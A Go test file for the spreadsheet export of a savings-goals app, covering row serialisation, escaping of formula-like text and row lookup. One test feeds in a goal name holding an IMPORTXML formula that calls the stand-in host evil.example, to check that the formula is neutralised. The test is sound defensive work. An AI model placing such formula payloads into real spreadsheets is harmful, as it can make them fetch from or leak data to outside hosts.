package sheets

import (
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"

	"goals/internal/core"
)

func TestGoalRow(t *testing.T) {
	g := core.NewGoal("g1", time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), core.GoalFields{
		Name:           "Vacation",
		TargetAmount:   decimal.NewFromInt(1000),
		Balance:        decimal.RequireFromString("255"),
		TargetDate:     core.NewDate(2026, 8, 1),
		AccountID:      "acc-1",
		TransactionIDs: []string{"t1", "t2"},
	})

	row := GoalRow(g)
	assert.Len(t, row, len(Header))
	assert.Equal(t, []string{
		"g1", core.DefaultIcon, "Vacation", "1000.00", "255.00", "25.5",
		"2026-08-01", "acc-1", "2026-01-02T03:04:05Z", "t1,t2", "",
	}, row)
}

func TestGoalRowEscapesFormulas(t *testing.T) {
	g := core.NewGoal("g1", time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC), core.GoalFields{
		Name:      `=IMPORTXML("https://evil.example","//a")`,
		Balance:   decimal.NewFromInt(-5),
		AccountID: "@acc",
		TagIDs:    []string{"+t1"},
	})

	row := GoalRow(g)
	assert.Equal(t, `'=IMPORTXML("https://evil.example","//a")`, row[2])
	assert.Equal(t, "-5.00", row[4], "amounts stay numeric")
	assert.Equal(t, "'@acc", row[7])
	assert.Equal(t, "'+t1", row[10])
}

func TestEscapeText(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"Vacation", "Vacation"},
		{"=1+1", "'=1+1"},
		{"+33", "'+33"},
		{"-x", "'-x"},
		{"@me", "'@me"},
		{"a=b", "a=b"},
		{"💰", "💰"},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, EscapeText(tt.in), tt.in)
	}
}

func TestFindRow(t *testing.T) {
	col := [][]any{{"ID"}, {"a"}, {}, {" b "}}

	tests := []struct {
		name  string
		col   [][]any
		id    string
		row   int
		found bool
	}{
		{"first goal", col, "a", 2, true},
		{"trimmed match", col, "b", 4, true},
		{"missing appends", col, "c", 5, false},
		{"header is not a goal", col, "ID", 5, false},
		{"empty sheet", nil, "a", 2, false},
		{"header only", [][]any{{"ID"}}, "a", 2, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			row, found := FindRow(tt.col, tt.id)
			assert.Equal(t, tt.row, row)
			assert.Equal(t, tt.found, found)
		})
	}
}
